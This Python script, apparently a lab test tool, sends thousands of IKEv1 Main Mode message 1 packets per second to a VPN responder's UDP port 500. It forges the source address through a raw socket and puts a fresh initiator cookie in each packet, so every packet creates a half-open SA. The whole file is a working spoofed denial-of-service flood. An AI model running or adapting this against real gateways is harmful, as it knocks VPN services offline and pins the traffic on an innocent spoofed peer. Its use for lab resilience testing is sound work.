#!/usr/bin/python3
"""Spoofed Main Mode 1 flood (issue 7, item 4a): sends RATE IKEv1 Main Mode
message 1 datagrams per second, each with a fresh initiator cookie, from SRC
port 500 to DST port 500, for at most SECONDS (or until SIGTERM/SIGINT).

The source address is forged with a raw socket (IP_HDRINCL), so the flood
looks exactly like the configured peer's own Main Mode 1 and the responder's
message 2 goes to the peer's isakmpd, as with a real spoofer. The SA offer
is the lab's phase 1 proposal (AES-CBC-128, SHA2-256, pre-shared key,
MODP-2048, 28800 s; tests/lib/ike.sh), so every datagram costs the responder
a half-open SA. Standard library only; IPv4; needs root (a raw socket).

Prints one line at the end: "sent N in S s (R per second)".
"""
import argparse
import random
import signal
import socket
import struct
import sys
import time


def sa_payload():
    # RFC 2409 Appendix A attributes, all in the basic (TV) form.
    attrs = b"".join(struct.pack("!HH", 0x8000 | t, v) for t, v in [
        (1, 7),        # encryption: AES-CBC
        (14, 128),     # key length
        (2, 4),        # hash: SHA2-256
        (3, 1),        # authentication: pre-shared key
        (4, 14),       # group: MODP-2048
        (11, 1),       # life type: seconds
        (12, 28800),   # life duration
    ])
    # Transform (RFC 2408 3.6): next 0, reserved, length, #1, KEY_IKE, reserved.
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    # Proposal (3.5): next 0, reserved, length, #1, PROTO_ISAKMP, SPI size 0, 1 transform.
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    # SA (3.4): next NONE, reserved, length, DOI IPsec, situation identity only.
    body = struct.pack("!II", 1, 1) + proposal
    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("dst")
    ap.add_argument("--rate", type=int, default=5000)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--port", type=int, default=500)
    args = ap.parse_args()

    src = socket.inet_aton(args.src)
    dst = socket.inet_aton(args.dst)
    sa = sa_payload()
    isakmp_len = 28 + len(sa)
    udp_len = 8 + isakmp_len
    # IPv4 header (RFC 791): the kernel fills in the checksum and total length
    # for IP_HDRINCL sockets; we give both anyway.
    ip_header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64,
                            socket.IPPROTO_UDP, 0, src, dst)
    ip_header = ip_header[:10] + struct.pack("!H", checksum(ip_header)) + ip_header[12:]
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    target = (args.dst, 0)

    stop = []
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stop.append(1))

    rng = random.Random()
    tail = b"\0" * 8 + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, isakmp_len) + sa
    sent = 0
    start = time.monotonic()
    batch = max(1, args.rate // 200)  # sends every 5 ms at 5,000 per second
    while not stop:
        now = time.monotonic()
        elapsed = now - start
        if elapsed >= args.seconds:
            break
        due = int(elapsed * args.rate) + batch
        while sent < due:
            isakmp = rng.getrandbits(64).to_bytes(8, "big") + tail
            udp = struct.pack("!HHHH", args.port, args.port, udp_len, 0)
            csum = checksum(pseudo + udp + isakmp) or 0xFFFF
            udp = udp[:6] + struct.pack("!H", csum)
            try:
                sock.sendto(ip_header + udp + isakmp, target)
            except (BlockingIOError, InterruptedError):
                pass
            sent += 1
        time.sleep(max(0.0, (sent - batch) / args.rate - (time.monotonic() - start)))
    took = time.monotonic() - start
    print("sent %d in %.2f s (%.0f per second)" % (sent, took, sent / took if took else 0),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
